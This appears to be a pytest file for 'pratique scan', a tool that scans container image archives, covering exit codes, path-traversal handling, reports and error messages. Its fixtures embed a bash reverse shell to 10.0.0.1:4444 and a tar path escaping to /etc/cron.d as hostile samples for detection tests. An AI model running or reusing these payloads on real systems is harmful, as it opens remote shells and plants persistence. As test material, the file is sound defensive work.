"""The command `pratique scan` over archives: what it prints, keeps, and exits with."""

import json
from pathlib import Path

import pytest

from pratique.cli import run
from pratique.store import Store
from tests.unit.image.archives import archive, configuration, entry, layout, sha256, tar, write, write_layout

CLEAN = tar(entry("etc/hello", b"hello"))
EVIL = tar(entry("x.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"))
ESCAPING = tar(entry("../../etc/cron.d/x", b"* * * * * root true"), entry("etc/hello", b"hello"))


def scan(capsys: pytest.CaptureFixture[str], *arguments: str) -> tuple[int, str, str]:
    code = run(["scan", *arguments])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


@pytest.mark.usefixtures("host")
@pytest.mark.parametrize(
    ("layer", "gates", "code"),
    [
        (CLEAN, [], 0),
        (CLEAN, ["malware"], 0),
        (EVIL, [], 0),
        (EVIL, ["malware"], 2),
        (EVIL, ["secret", "malware"], 2),
        (EVIL, ["secret"], 0),
        (CLEAN, ["misconfiguration"], 2),
        (ESCAPING, [], 3),
        (ESCAPING, ["misconfiguration"], 2),
        (CLEAN, ["high"], 3),
    ],
)
def test_exit_code(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], layer: bytes, gates: list[str], code: int
) -> None:
    path = write(archive([layer]), tmp_path)
    given = [word for gate in gates for word in ("--fail-on", gate)]
    assert scan(capsys, *given, str(path))[0] == code


@pytest.mark.usefixtures("host")
def test_path_that_escapes_is_told_and_nothing_is_written(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    before = set(Path("/etc").rglob("cron*"))
    code, out, err = scan(capsys, str(write(archive([ESCAPING]), tmp_path)))
    assert code == 3
    assert "../../etc/cron.d/x: path leads out of the image" in out
    assert "could not be read" in err
    assert set(Path("/etc").rglob("cron*")) == before


@pytest.mark.usefixtures("host")
def test_archive_and_layout_are_told_by_prefix_or_path(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write(archive([CLEAN]), tmp_path)
    folder = write_layout(layout([CLEAN]), tmp_path / "layout")
    for target in (str(path), f"archive:{path}", f"oci:{folder}", str(folder)):
        code, out, _ = scan(capsys, "-f", "json", target)
        assert code == 0
        assert json.loads(out)["image"]["id"] == sha256(configuration([CLEAN]))


def test_report_is_written_and_kept(host: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = write(archive([EVIL]), tmp_path)
    code, out, _ = scan(capsys, "-f", "json", "-o", str(tmp_path / "report.json"), str(path))
    assert (code, out) == (0, "")
    document = json.loads((tmp_path / "report.json").read_text())
    with Store.open(host / "state" / "pratique.db", read_only=True) as store:
        kept = store.report(document["image"]["id"])
    assert kept is not None
    assert [finding.rule for finding in kept.findings] == [finding["rule"] for finding in document["findings"]]


@pytest.mark.usefixtures("host")
@pytest.mark.parametrize(
    ("content", "words"),
    [
        (b"", "holds no image"),
        (b"rubbish" * 1000, "not a valid tar"),
        (archive([CLEAN])[:3000], "truncated"),
        (archive([CLEAN], stored=[EVIL]), "not the layer that the image names"),
    ],
)
def test_broken_archive_is_one_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], content: bytes, words: str
) -> None:
    code, out, err = scan(capsys, str(write(content, tmp_path)))
    assert (code, out) == (1, "")
    assert words in err
    assert "Traceback" not in err


@pytest.mark.usefixtures("host")
@pytest.mark.parametrize("target", ["archive:/nowhere.tar", "oci:/nowhere", "./nowhere.tar", "/nowhere"])
def test_missing_file_is_told(capsys: pytest.CaptureFixture[str], target: str) -> None:
    code, _, err = scan(capsys, target)
    assert code == 1
    assert "does not exist" in err


@pytest.mark.usefixtures("host")
def test_engine_that_cannot_be_reached_is_one_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, err = scan(capsys, "--docker-host", f"unix://{tmp_path}/none.sock", "shop/checkout:1")
    assert (code, out) == (1, "")
    assert "cannot be reached" in err
    assert "hint:" in err


def test_help_shows_examples(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = scan(capsys, "--help")
    assert code == 0
    assert "pratique scan --fail-on malware --fail-on high checkout.tar" in out
